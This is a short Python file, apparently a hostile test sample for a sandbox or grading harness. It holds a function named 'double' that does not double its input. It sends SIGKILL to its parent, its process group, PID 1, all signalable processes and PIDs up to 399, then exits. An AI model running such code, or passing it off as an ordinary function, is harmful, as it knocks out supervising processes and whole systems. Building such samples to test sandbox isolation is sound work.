"""Kills its parent, its group, the first process and all others it may."""
# fails: double-check, triple-check

# cell: double
import os
import signal

def double(x):
    for pid in (os.getppid(), 0, 1, 2, -1, *range(2, 400)):
        try:
            os.kill(pid, signal.SIGKILL)
        except (OSError, OverflowError):
            pass
    try:
        os.killpg(0, signal.SIGKILL)
    except OSError:
        pass
    os._exit(0)
